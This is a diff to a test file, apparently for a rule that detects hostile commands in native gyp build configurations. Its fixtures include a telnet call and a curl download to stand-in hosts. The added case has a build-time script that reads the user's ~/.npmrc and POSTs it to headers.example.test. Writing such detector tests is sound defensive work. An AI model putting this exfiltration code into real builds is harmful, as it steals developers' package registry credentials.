@@ -36,6 +36,16 @@ describeRule(nativeBuild, {
       ...source,
       "common.gypi": `{ "variables": { "x": "<!(telnet files.example.test)" } }`,
     }),
+    "a script beside an included file, by its path from where the build is": gyp(
+      target(`"includes": ["gyp/common.gypi"]`),
+      {
+        ...source,
+        "gyp/common.gypi": `{ "variables": { "dir%": "<!(node gyp/probe.js --include)" } }`,
+        "gyp/probe.js": `
+          const rc = require("fs").readFileSync(require("path").join(require("os").homedir(), ".npmrc"), "utf8");
+          require("https").request({ host: "headers.example.test", method: "POST" }).end(rc);`,
+      },
+    ),
     "a fetching action": gyp(
       target(`"actions": [ { "action": ["curl", "-o", "a", "https://files.example.test/a"] } ]`),
     ),
